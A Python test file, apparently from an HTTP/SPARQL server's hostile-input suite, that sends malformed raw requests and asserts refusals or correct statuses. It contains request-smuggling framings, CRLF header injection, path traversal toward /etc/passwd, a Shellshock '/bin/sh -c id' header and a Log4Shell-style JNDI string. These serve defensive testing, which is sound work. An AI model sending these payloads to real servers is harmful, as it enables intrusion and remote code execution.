"""Bytes that are no request, or two requests in one: the server stays with what HTTP says.

Each attack is a run of bytes on a connection of its own. What comes back is whole answers with the
statuses given (none: closed without a word), and the next connection is answered rightly.
"""

from http import HTTPStatus

import pytest

from tests.hostile.asking import LIGHT, Target, request

OK, BAD = int(HTTPStatus.OK), int(HTTPStatus.BAD_REQUEST)
NOTHING: tuple[int, ...] = ()
SECOND = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
ASK = "/sparql?query=ASK%7B%7D"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_CHUNKED = "Transfer-Encoding: chunked"
_BODY = b"query=ASK%7B%7D"


def post(*headers: str, body: bytes = _BODY) -> bytes:
    return request("/sparql", _FORM, *headers, method="POST", body=body)


def chunk(data: bytes, size: bytes | None = None) -> bytes:
    return (size or b"%x" % len(data)) + b"\r\n" + data + b"\r\n"


def lines(*sent: bytes) -> bytes:
    return b"\r\n".join(sent) + b"\r\n\r\n"


# Each attack: the bytes, and the statuses that may come back, one tuple a possibility.
Attack = tuple[bytes, set[tuple[int, ...]]]
REFUSED = {NOTHING, (BAD,)}

FRAMING: dict[str, Attack] = {
    "length and chunks, the length shorter": (
        post("Content-Length: 4", _CHUNKED, body=chunk(_BODY) + b"0\r\n\r\n"), {*REFUSED, (OK,)},
    ),
    "length and chunks, a request behind the chunks": (
        post("Content-Length: 200", _CHUNKED, body=b"0\r\n\r\n" + SECOND), {*REFUSED, (400, 404)},
    ),
    "chunks and length, in that order": (
        post(_CHUNKED, "Content-Length: 15", body=_BODY), REFUSED,
    ),
    "two lengths that differ": (post("Content-Length: 15", "Content-Length: 0"), REFUSED),
    "two lengths in one line": (post("Content-Length: 15, 0"), REFUSED),
    "two lengths alike": (post("Content-Length: 15", "Content-Length: 15"), {*REFUSED, (OK,)}),
    "a length below zero": (post("Content-Length: -1"), REFUSED),
    "a length with a sign": (post("Content-Length: +15"), REFUSED),
    "a length in hexadecimal": (post("Content-Length: 0xf"), REFUSED),
    "a length with a blank within": (post("Content-Length: 1 5"), REFUSED),
    "a length of letters": (post("Content-Length: many"), REFUSED),
    "a length of no letters": (post("Content-Length: "), REFUSED),
    "a length beyond all numbers": (post(f"Content-Length: {'9' * 40}"), {*REFUSED, (413,)}),
    "a length of a gigabyte": (post("Content-Length: 1000000000"), {(413,)}),
    "a length in other digits": (post("Content-Length: \xb2"), REFUSED),
    "a length that is too long": (post("Content-Length: 99"), {*REFUSED, (400,)}),
    "a length with a blank before the colon": (post("Content-Length : 15"), REFUSED),
    "chunks said twice": (post(_CHUNKED, _CHUNKED, body=chunk(_BODY) + b"0\r\n\r\n"),
                          {*REFUSED, (OK,)}),
    "chunks that are not the last coding": (
        post("Transfer-Encoding: chunked, identity", body=chunk(_BODY) + b"0\r\n\r\n"), REFUSED),
    "chunks within another coding": (
        post("Transfer-Encoding: gzip, chunked", body=chunk(_BODY) + b"0\r\n\r\n"),
        {*REFUSED, (OK,), (501,)},
    ),
    "a coding nobody knows": (post("Transfer-Encoding: xchunked", body=chunk(_BODY)), REFUSED),
    "chunks behind a blank": (
        post("Transfer-Encoding:  chunked ", body=chunk(_BODY) + b"0\r\n\r\n"), {*REFUSED, (OK,)}),
    "chunks behind a tabulator": (
        post("Transfer-Encoding:\tchunked", body=chunk(_BODY) + b"0\r\n\r\n"), {*REFUSED, (OK,)}),
    "chunks behind a vertical tabulator": (
        post("Transfer-Encoding:\x0bchunked", body=chunk(_BODY) + b"0\r\n\r\n"), REFUSED),
    "chunks with a blank before the colon": (
        post("Transfer-Encoding : chunked", body=chunk(_BODY) + b"0\r\n\r\n"), REFUSED),
    "chunks with an underscore": (
        post("Transfer_Encoding: chunked", "Content-Length: 15"), {(OK,)}),
    "chunks in capitals": (
        post("TRANSFER-ENCODING: CHUNKED", body=chunk(_BODY) + b"0\r\n\r\n"), {(OK,)}),
    "chunks in quotes": (
        post('Transfer-Encoding: "chunked"', body=chunk(_BODY) + b"0\r\n\r\n"), REFUSED),
    "chunks in HTTP 1.0": (
        post(_CHUNKED, body=chunk(_BODY) + b"0\r\n\r\n").replace(b"HTTP/1.1", b"HTTP/1.0"),
        {*REFUSED, (OK,)},
    ),
    "a chunk whose size is none": (post(_CHUNKED, body=chunk(_BODY, b"zz") + SECOND), REFUSED),
    "a chunk whose size is below zero": (post(_CHUNKED, body=chunk(_BODY, b"-f")), REFUSED),
    "a chunk whose size has a prefix": (post(_CHUNKED, body=chunk(_BODY, b"0xf")), REFUSED),
    "a chunk whose size is beyond all numbers": (
        post(_CHUNKED, body=chunk(_BODY, b"f" * 20)), REFUSED),
    "a chunk whose size wraps around": (
        post(_CHUNKED, body=chunk(_BODY, b"1000000000000000f")), REFUSED),
    "a chunk shorter than it says": (post(_CHUNKED, body=chunk(_BODY, b"ff")), REFUSED),
    "a chunk longer than it says": (post(_CHUNKED, body=chunk(_BODY, b"5") + SECOND), REFUSED),
    "a chunk with an extension": (
        post(_CHUNKED, body=chunk(_BODY, b"f;a=b") + b"0\r\n\r\n"), {(OK,)}),
    "a chunk with an extension without end": (
        post(_CHUNKED, body=b"f;" + b"a" * 100_000 + b"\r\n" + _BODY + b"\r\n0\r\n\r\n"), REFUSED),
    "a chunk whose lines end in one byte": (
        post(_CHUNKED, body=b"f\n" + _BODY + b"\n0\n\n"), REFUSED),
    "chunks without an end": (post(_CHUNKED, body=chunk(_BODY)), REFUSED),
    "chunks with a trailer": (
        post(_CHUNKED, body=chunk(_BODY) + b"0\r\nHost: evil\r\nContent-Length: 5\r\n\r\n"),
        {*REFUSED, (OK,)},
    ),
    "chunks of one byte": (
        post(_CHUNKED, body=b"".join(chunk(b"%c" % byte) for byte in _BODY) + b"0\r\n\r\n"),
        {(OK,)},
    ),
    "chunks beyond the bound": (
        post(_CHUNKED, body=chunk(b"x" * 65536) * 20 + b"0\r\n\r\n"), {(413,), NOTHING}),
    "a body where none is due": (
        request(ASK, "Content-Length: 15", body=_BODY), {(OK,)}),
    "a body that is a request": (
        post(f"Content-Length: {len(SECOND)}", body=SECOND), {(400,)}),
}  # fmt: skip

HEAD_LINES: dict[str, Attack] = {
    "HTTP 0.9": (b"GET /healthz\r\n", REFUSED),
    "HTTP 1.0": (b"GET /healthz HTTP/1.0\r\n\r\n", {(OK,)}),
    "HTTP 1.0 that stays": (
        b"GET /healthz HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" * 2, {(OK,), (OK, OK)}),
    "HTTP 1.2": (b"GET /healthz HTTP/1.2\r\nHost: x\r\n\r\n", {*REFUSED, (505,), (OK,)}),
    "HTTP 2.0 in the old form": (b"GET /healthz HTTP/2.0\r\nHost: x\r\n\r\n", {*REFUSED, (505,)}),
    "HTTP 9.9": (b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n", REFUSED),
    "a version of letters": (b"GET /healthz HTTP/one\r\nHost: x\r\n\r\n", REFUSED),
    "another protocol": (b"GET /healthz ICY/1.1\r\nHost: x\r\n\r\n", REFUSED),
    "the preface of HTTP 2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", REFUSED),
    "a greeting of TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500, REFUSED),
    "a greeting of SSH": (b"SSH-2.0-x\r\n", REFUSED),
    "a greeting of mail": (b"EHLO x\r\nMAIL FROM:<a@b>\r\n", REFUSED),
    "a proxy's greeting": (b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + request(), REFUSED),
    "nothing at all": (b"", {NOTHING}),
    "lines of nothing": (b"\r\n" * 1000, REFUSED),
    "lines of nothing before it": (b"\r\n\r\n" + request(), {(OK,), *REFUSED}),
    "zeros": (b"\x00" * 5000, REFUSED),
    "random bytes": (bytes(range(256)) * 40, REFUSED),
    "half a line": (b"GET /heal", {NOTHING, (BAD,)}),
    "half a head": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n", {NOTHING, (BAD,)}),
    "lines that end in one byte": (b"GET /healthz HTTP/1.1\nHost: x\n\n", {(OK,), *REFUSED}),
    "lines that end in a return": (b"GET /healthz HTTP/1.1\rHost: x\r\r", REFUSED),
    "a line with too many words": (b"GET /healthz x HTTP/1.1\r\nHost: x\r\n\r\n", REFUSED),
    "a line with two blanks": (b"GET  /healthz HTTP/1.1\r\nHost: x\r\n\r\n", REFUSED),
    "a blank before the line": (b" GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", REFUSED),
    "no path": (b"GET HTTP/1.1\r\nHost: x\r\n\r\n", REFUSED),
    "a whole address": (request("http://evil.example/healthz"), {(OK,), *REFUSED}),
    "a whole address of a file": (request("file:///etc/passwd"), {(404,), *REFUSED}),
    "an asterisk": (request("*", method="OPTIONS"), {(204,), (200,), (404,), (405,), *REFUSED}),
    "an asterisk got": (request("*"), {(404,), *REFUSED}),
    "a path without a slash": (request("healthz"), {(404,), *REFUSED}),
    "CONNECT": (request("127.0.0.1:22", method="CONNECT"), {(404,), (405,), (501,), *REFUSED}),
    "TRACE": (request(ASK, "Cookie: secret", method="TRACE"), {(405,), (501,), *REFUSED}),
    "TRACK": (request(ASK, method="TRACK"), {(405,), (501,), *REFUSED}),
    "DEBUG": (request(ASK, method="DEBUG"), {(405,), (501,), *REFUSED}),
    "a method in small letters": (request(ASK, method="get"), {(405,), (501,), *REFUSED}),
    "a method nobody knows": (request(ASK, method="FROBNICATE"), {(405,), (501,), *REFUSED}),
    "a method of a hundred kilobytes": (request(ASK, method="A" * 100_000), {(405,), *REFUSED}),
    "a method with signs": (request(ASK, method="GE(T"), REFUSED),
    "a websocket": (
        request("/sparql", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="), {(400,), (200,), (426,), NOTHING}),
    "an upgrade to HTTP 2": (
        request("/healthz", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                "HTTP2-Settings: AAMAAABkAAQAAP__"), {(OK,), *REFUSED}),
    "a promise of a body": (
        post("Content-Length: 15", "Expect: 100-continue"), {(OK,)}),
    "a promise nobody knows": (
        post("Content-Length: 15", "Expect: the unexpected"), {(OK,), (417,), *REFUSED}),
    "fifty at once": (request(ASK) * 50, {(OK,) * 50}),
    "fifty at once, one bad": (request(ASK) * 25 + b"x\r\n\r\n" + request(ASK) * 24,
                               {(OK,) * 25, (*(OK,) * 25, BAD)}),
    "a request behind a close": (request(ASK, "Connection: close") + SECOND, {(OK,)}),
}  # fmt: skip

HEADERS: dict[str, Attack] = {
    "no Host": (request(host=""), REFUSED),
    "two Hosts": (request("/healthz", "Host: y"), REFUSED),
    "two Hosts alike": (request("/healthz", "Host: x"), REFUSED),
    "an empty Host": (b"GET /healthz HTTP/1.1\r\nHost:\r\n\r\n", REFUSED),
    "a Host with a path": (request(host="x/y"), REFUSED),
    "a Host with a query": (request(host="x?y"), REFUSED),
    "a Host with a user": (request(host="admin@x"), REFUSED),
    "a Host with a blank": (request(host="x y"), REFUSED),
    "a Host with two ports": (request(host="x:1:2"), REFUSED),
    "a Host with a port of letters": (request(host="x:port"), REFUSED),
    "a Host with quotes": (request(host='x"><script>'), REFUSED),
    "a Host beyond ASCII": (request(host="xé"), REFUSED),
    "a Host of two": (request(host="x, y"), REFUSED),
    "a Host without an end": (request(host="x" * 20_000), REFUSED),
    "a Host by number of six": (request(host="[::1]:80"), {(OK,)}),
    "a Host of brackets": (request(host="[[[["), REFUSED),
    "a header without a colon": (request("/healthz", "nocolon"), REFUSED),
    "a header without a name": (request("/healthz", ": x"), REFUSED),
    "a header with a blank in its name": (request("/healthz", "A B: x"), REFUSED),
    "a header with a zero in its name": (request("/healthz", "A\x00: x"), REFUSED),
    "a header with a zero in its value": (request("/healthz", "A: \x00"), REFUSED),
    "a header with a return in its value": (request("/healthz", "A: x\ry: z"), REFUSED),
    "a header with a delete in its value": (request("/healthz", "A: \x7f"), REFUSED),
    "a header beyond ASCII": (request("/healthz", "A: \xff\xfe"), {(OK,), *REFUSED}),
    "a folded header": (request("/healthz", "A: x\r\n y"), {(OK,), *REFUSED}),
    "a folded header first": (b"GET /healthz HTTP/1.1\r\n Host: x\r\n\r\n", REFUSED),
    "a folded length": (post("Content-Length:\r\n 15"), {(OK,), *REFUSED}),
    "a header of a megabyte": (request("/healthz", f"A: {'x' * 1_000_000}"), {(431,), *REFUSED}),
    "a header's name of 100 kB": (request("/healthz", f"{'A' * 100_000}: x"), {(431,), *REFUSED}),
    "ten thousand headers": (
        request("/healthz", *(f"A{n}: x" for n in range(10_000))), {(431,), *REFUSED}),
    "a hundred headers more than few": (
        request("/healthz", *(f"A{n}: x" for n in range(101))), {(431,), *REFUSED}),
    "an address of a megabyte": (request("/" + "x" * 1_000_000), {(414,), (431,), *REFUSED}),
    "an address of 60 kB": (request("/" + "x" * 60_000), {(404,), (414,), *REFUSED}),
    "a query of 60 kB": (request("/healthz?" + "x=1&" * 15_000), {(OK,), (414,), *REFUSED}),
    "a thousand parameters": (request("/sparql?" + "a=1&" * 1_000), {(415,), (400,), (414,)}),
    "a thousand Accepts": (
        request(ASK, "Accept: " + ",".join(f"a/b{n};q=0.{n % 10}" for n in range(1_000))),
        {(406,), (400,), (OK,)}),
    "an Accept of nothing": (request(ASK, "Accept: ;;;,,,/,*"), {(OK,), (406,)}),
    "an Accept with weights that are none": (
        request(ASK, "Accept: */*;q=nan, text/csv;q=-1, a/b;q=1e9"), {(OK,), (406,)}),
    "an encoding nobody knows": (request(ASK, "Accept-Encoding: bomb;q=1"), {(OK,)}),
    "a body in another encoding": (
        post("Content-Length: 15", "Content-Encoding: gzip"), {(415,)}),
    "a body in another alphabet": (
        request("/sparql", "Content-Type: application/sparql-query; charset=utf-7",
                "Content-Length: 6", method="POST", body=b"ASK {}"), {(415,)}),
    "a type without an end": (
        request("/sparql", f"Content-Type: {';a=b' * 5000}", "Content-Length: 6", method="POST",
                body=b"ASK {}"), {(415,), *REFUSED}),
    "a date that never was": (
        request(ASK, "If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT"), {(OK,)}),
    "tags of all kinds": (
        request(ASK, "If-None-Match: " + ", ".join(f'W/"{n}"' for n in range(500))), {(OK,)}),
    "ranges without number": (
        request(ASK, "Range: bytes=" + ",".join("0-0" for _ in range(2_000))), {(OK,), (206,)}),
    "a cookie of 30 kB": (request(ASK, "Cookie: " + "a=b; " * 6_000), {(OK,), *REFUSED}),
    "a shell's variable": (
        request(ASK, "User-Agent: () { :;}; /bin/sh -c id", "Referer: ${jndi:ldap://x/a}"),
        {(OK,)}),
    "an Accept of 300 kB": (
        request(ASK, "Accept: " + "a/b;q=0.1," * 30_000), {(431,), *REFUSED}),
    "lines of 40 kB in all": (
        request("/healthz", *(f"A{n}: {'x' * 1000}" for n in range(40))), {(431,)}),
    "two Accepts": (request(ASK, "Accept: text/csv", "Accept: */*"), {(OK,), (406,)}),
}  # fmt: skip

ENCODINGS: dict[str, Attack] = {
    "half an escape": (request("/healthz%"), {(404,), *REFUSED}),
    "an escape of letters": (request("/%zz"), {(404,), *REFUSED}),
    "a zero": (request("/healthz%00"), REFUSED),
    "a zero in the query": (request("/sparql?query=ASK%00%7B%7D"), {(OK,), *REFUSED}),
    "lines in the path": (request("/id/x%0d%0aSet-Cookie:%20a=b"), REFUSED),
    "bytes that are no UTF-8": (request("/%ff%fe"), REFUSED),
    "an overlong slash": (request("/%c0%afetc/passwd"), REFUSED),
    "half a character": (request("/%ed%a0%80"), REFUSED),
    "bytes that are no UTF-8 in the query": (request("/sparql?query=%ff"), {(415,), *REFUSED}),
    "raw bytes in the path": (request("/\xff"), {(404,), *REFUSED}),
    "raw UTF-8 in the path": (
        "GET /tìm HTTP/1.1\r\nHost: x\r\n\r\n".encode(), {(404,), *REFUSED}),
    "raw bytes in the query": (request("/sparql?query=\xff"), {(415,), *REFUSED}),
    "a fragment": (request("/healthz#x"), {(OK,), (404,), *REFUSED}),
    "a backslash": (request("\\healthz"), {(404,), *REFUSED}),
    "two slashes": (request("//healthz"), {(404,), (308,), *REFUSED}),
    "two slashes and a host": (request("//evil.example/healthz"), {(404,), (308,), *REFUSED}),
    "dots": (request("/static/../healthz"), {(404,), *REFUSED}),
    "semicolons": (request("/healthz;a=b"), {(404,), *REFUSED}),
}  # fmt: skip

ATTACKS = {
    f"{kind}: {name}": attack
    for kind, attacks in (
        ("framing", FRAMING),
        ("line", HEAD_LINES),
        ("header", HEADERS),
        ("encoding", ENCODINGS),
    )
    for name, attack in attacks.items()
}


@pytest.mark.parametrize(("sent", "allowed"), ATTACKS.values(), ids=ATTACKS)
def test_it_gets_a_right_status_or_none(
    target: Target, sent: bytes, allowed: set[tuple[int, ...]]
) -> None:
    patience = 0.25 if NOTHING in allowed else 10
    answers = target.raw(sent, max(map(len, allowed)), patience)
    assert tuple(one.status for one in answers) in allowed, answers
    assert not any(b"smuggled" in one.body for one in answers)
    assert not any("set-cookie" in one.headers for one in answers)
    target.is_well()


def test_a_query_after_all_is_answered(target: Target) -> None:
    assert target.query(LIGHT).status == 200
